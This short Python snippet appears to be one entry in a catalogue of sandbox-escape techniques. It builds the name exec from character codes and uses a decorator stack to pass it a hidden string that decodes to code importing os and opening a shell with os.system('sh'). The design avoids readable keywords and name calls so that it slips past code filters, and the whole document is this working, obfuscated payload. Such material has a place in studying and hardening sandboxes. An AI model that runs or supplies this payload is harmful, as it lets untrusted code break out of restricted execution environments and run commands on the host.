# technique: decorator stack feeds a class through a chr-built string into a builtin runner, no call syntax on names
_b = (lambda: 0).__globals__["__bu" "iltins__"]
_b = _b if isinstance(_b, dict) else _b.__dict__
_run = _b["".join(map(chr, (101, 120, 101, 99)))]

@_run
@(lambda _: "".join(map(chr, (105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46,
                              115, 121, 115, 116, 101, 109, 40, 39, 115, 104, 39, 41))))
class Payload:
    pass
